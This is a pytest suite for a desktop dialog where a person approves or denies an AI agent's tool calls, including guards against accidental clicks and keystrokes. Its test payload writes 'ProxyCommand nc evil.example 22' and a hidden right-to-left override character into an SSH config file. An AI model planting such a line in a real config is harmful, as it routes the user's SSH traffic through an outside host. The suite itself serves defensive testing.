"""A person at a real screen answers an agent's calls: with the mouse, with the keyboard, or not at all."""

import json
import sys
import time
from pathlib import Path

import pytest
from approver_home import ASK_ALL
from desk import ALLOW_FROM_RIGHT, DENY_FROM_RIGHT, GUARD_SECONDS, Desk
from eventually import eventually
from wire_client import Message, WireClient
from x_screen import xdotool

HELD = [sys.executable, str(Path(__file__).parents[1] / "servers" / "held_server.py")]
CALL = {"path": "/home/ana/.ssh/config", "content": "Host *\n  ProxyCommand nc evil.example 22\n\u202e"}


@pytest.fixture
def client(desk: Desk) -> WireClient:
    """A client in front of a server whose every call is asked about."""
    log = {"HELD_SERVER_LOG": str(desk.home.work / "arrived.jsonl")}
    desk.home.add_server("held", HELD, ASK_ALL, env=log)
    desk.start()
    return desk.home.client("held")


def what_arrived(desk: Desk) -> list[dict]:
    place = desk.home.work / "arrived.jsonl"
    lines = place.read_text(encoding="utf-8").splitlines() if place.exists() else []
    return [call for line in lines if (call := json.loads(line))["name"] != "notifications/initialized"]


def text_of(answer: Message) -> str:
    return answer["result"]["content"][0]["text"]


def answered(client: WireClient, request: int) -> bool:
    return any(message.get("id") == request and "method" not in message for message in client.heard)


def number_answered(client: WireClient, requests: list[int]) -> int:
    return sum(answered(client, request) for request in requests)


def test_allowed_with_the_mouse(desk: Desk, client: WireClient) -> None:
    request = client.start_call("echo", CALL)
    desk.await_dialog()
    desk.picture("dialog")
    desk.click_until(lambda: answered(client, request), ALLOW_FROM_RIGHT)
    assert json.loads(text_of(client.answer_to(request))) == CALL
    assert [call["name"] for call in what_arrived(desk)] == ["echo"]
    decision = next(record for record in desk.home.log() if record["tool"] == "echo")
    assert (decision["outcome"], decision["by"]) == ("approved", "window")


def test_denied_with_the_mouse(desk: Desk, client: WireClient) -> None:
    request = client.start_call("echo", CALL)
    desk.click_until(lambda: answered(client, request), DENY_FROM_RIGHT)
    assert text_of(client.answer_to(request)) == "[DENIED BY USER] No reason was given."
    assert what_arrived(desk) == []


def test_denied_with_a_reason_by_keyboard_alone(desk: Desk, client: WireClient) -> None:
    request = client.start_call("echo", CALL)
    desk.activate()
    xdotool("key", "alt+w")
    xdotool("type", "--delay", "10", "Not on a Sunday.")
    desk.picture("reason")
    desk.press_until(lambda: answered(client, request), "alt+d")
    assert text_of(client.answer_to(request)) == "[DENIED BY USER] Not on a Sunday."
    assert what_arrived(desk) == []


def test_allowed_by_keyboard_alone(desk: Desk, client: WireClient) -> None:
    request = client.start_call("echo", {"a": 1})
    desk.activate()
    desk.press_until(lambda: answered(client, request), "alt+a")
    assert text_of(client.answer_to(request)) == '{"a": 1}'


def test_left_alone_until_it_expires(desk: Desk) -> None:
    log = {"HELD_SERVER_LOG": str(desk.home.work / "arrived.jsonl")}
    desk.home.add_server("held", HELD, ASK_ALL, env=log)
    desk.home.settings("[asking]\nopen_seconds = 3\n")
    desk.start()
    client = desk.home.client("held")
    request = client.start_call("echo", CALL)
    desk.await_dialog()
    answer = client.answer_to(request, within=15)
    assert text_of(answer).startswith("[APPROVAL EXPIRED] ")
    assert desk.home.pending() == []
    desk.picture("expired")
    desk.point_at(ALLOW_FROM_RIGHT)
    desk.storm("click", "--repeat", "20", "--delay", "20", "1", until=lambda: False, within=1.0)
    assert what_arrived(desk) == []


def test_clicks_where_the_allow_button_appears_allow_nothing(desk: Desk, client: WireClient) -> None:
    """The mouse clicks without a pause before, while and shortly after the dialog appears under it."""
    first = client.start_call("echo", {"n": 1})
    place = desk.await_dialog()
    desk.click_until(lambda: answered(client, first), DENY_FROM_RIGHT)
    eventually(lambda: not desk.dialog(), "the dialog is gone")
    desk.point_at(ALLOW_FROM_RIGHT, place)
    second = client.start_call("echo", {"n": 2})
    shown: list[float] = []

    def is_over() -> bool:
        if not shown and desk.dialog():
            shown.append(time.monotonic())
        return bool(shown) and time.monotonic() - shown[0] > GUARD_SECONDS * 0.6

    assert desk.storm("click", "--repeat", "5", "--delay", "15", "1", until=is_over) > 1
    assert not answered(client, second)
    assert [question["arguments"] for question in desk.home.pending()] == [{"n": 2}]
    assert what_arrived(desk) == []


@pytest.mark.parametrize("keys", [("Return", "space", "KP_Enter"), ("alt+a", "a", "Return")])
def test_typing_hard_while_it_appears_allows_nothing(desk: Desk, client: WireClient, keys: tuple[str, ...]) -> None:
    """Whatever the person is typing just then, and even if the window manager hands the dialog the keyboard."""
    request = client.start_call("echo", {"n": 1})
    shown: list[float] = []

    def is_over() -> bool:
        window = desk.dialog()
        if window and not shown:
            shown.append(time.monotonic())
            xdotool("windowactivate", str(window.id))
        return bool(shown) and time.monotonic() - shown[0] > GUARD_SECONDS * 0.6

    assert desk.storm("key", "--delay", "5", *keys * 3, until=is_over) > 1
    assert not answered(client, request)
    assert len(desk.home.pending()) == 1
    assert what_arrived(desk) == []


def test_enter_and_space_allow_nothing_however_long_they_are_pressed(desk: Desk, client: WireClient) -> None:
    request = client.start_call("echo", {"n": 1})
    desk.activate()
    started = time.monotonic()
    desk.storm("key", "--delay", "0", "Return", "space", until=lambda: time.monotonic() - started > 4 * GUARD_SECONDS)
    assert not answered(client, request)
    assert len(desk.home.pending()) == 1


def test_closing_the_dialog_means_later(desk: Desk, client: WireClient) -> None:
    request = client.start_call("echo", {"n": 1})
    desk.await_dialog()
    desk.close_dialog()
    assert len(desk.home.pending()) == 1
    assert not answered(client, request)
    desk.home.run("deny", desk.home.pending()[0]["id"])
    assert text_of(client.answer_to(request)).startswith("[DENIED BY USER]")


def test_a_terminal_cannot_approve_while_the_windows_are_up(desk: Desk, client: WireClient) -> None:
    client.start_call("echo", {"n": 1})
    question = desk.home.await_question("echo")
    refused = desk.home.run("approve", question["id"])
    assert refused.returncode == 1
    assert "windows" in refused.stderr
    assert len(desk.home.pending()) == 1


def test_the_dialog_of_a_client_that_left_cannot_be_answered(desk: Desk, client: WireClient) -> None:
    client.start_call("echo", {"n": 1})
    desk.await_dialog()
    client.close()
    eventually(lambda: not desk.home.pending(), "the question is closed", every=0.1)
    desk.picture("client-left")
    desk.point_at(ALLOW_FROM_RIGHT)
    desk.storm("click", "--repeat", "20", "--delay", "20", "1", until=lambda: False, within=1.0)
    assert what_arrived(desk) == []
    assert next(record for record in desk.home.log() if record["tool"] == "echo")["outcome"] == "aborted"


def test_three_calls_are_answered_one_by_one(desk: Desk, client: WireClient) -> None:
    """Answering one puts the next under the pointer, which needs a guard period of its own."""
    requests = [client.start_call("echo", {"n": number}) for number in range(3)]
    desk.home.await_question("echo", count=3)
    desk.picture("three-waiting")
    for count in range(1, 4):
        assert number_answered(client, requests) == count - 1, "one press answers one call"
        desk.click_until(lambda: number_answered(client, requests) >= count, ALLOW_FROM_RIGHT)  # noqa: B023 # called at once
    assert {json.loads(text_of(client.answer_to(request)))["n"] for request in requests} == {0, 1, 2}
